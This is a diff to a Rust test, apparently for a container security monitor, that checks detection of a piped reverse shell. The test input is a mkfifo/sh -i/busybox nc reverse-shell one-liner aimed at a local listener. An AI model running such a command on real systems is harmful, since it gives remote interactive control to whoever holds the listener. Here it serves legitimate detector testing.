@@ -277,10 +277,18 @@ fn a33_piped_shell(_: &Node, container: &Container<'_>) -> anyhow::Result<()> {
         "rm -f /tmp/f; mkfifo /tmp/f\n\
          cat /tmp/f | sh -i 2>&1 | busybox nc 127.0.0.1 {port} > /tmp/f || true"
     ))?;
-    let findings = container.told(&["high shell.reverse"]);
+    // As far as /proc shows it, which is a limit: else it is a script from a pipe.
+    let findings = wait_for("the shell", || {
+        let findings = container.findings()?;
+        Ok((!findings.is_empty()).then_some(findings))
+    });
     waits.join().ok().context("the listener")?;
     running.finish(Duration::from_secs(30))?;
     let findings = findings?;
+    if findings.iter().all(|finding| finding["kind"] != "shell.reverse") {
+        container.told(&["medium exec.interpreted"])?;
+        return Ok(());
+    }
     let shell = only(&findings, "shell.reverse")?;
     // Which of its names busybox has here depends on who called it.
     let detail = shell["detail"].as_str().unwrap_or_default();
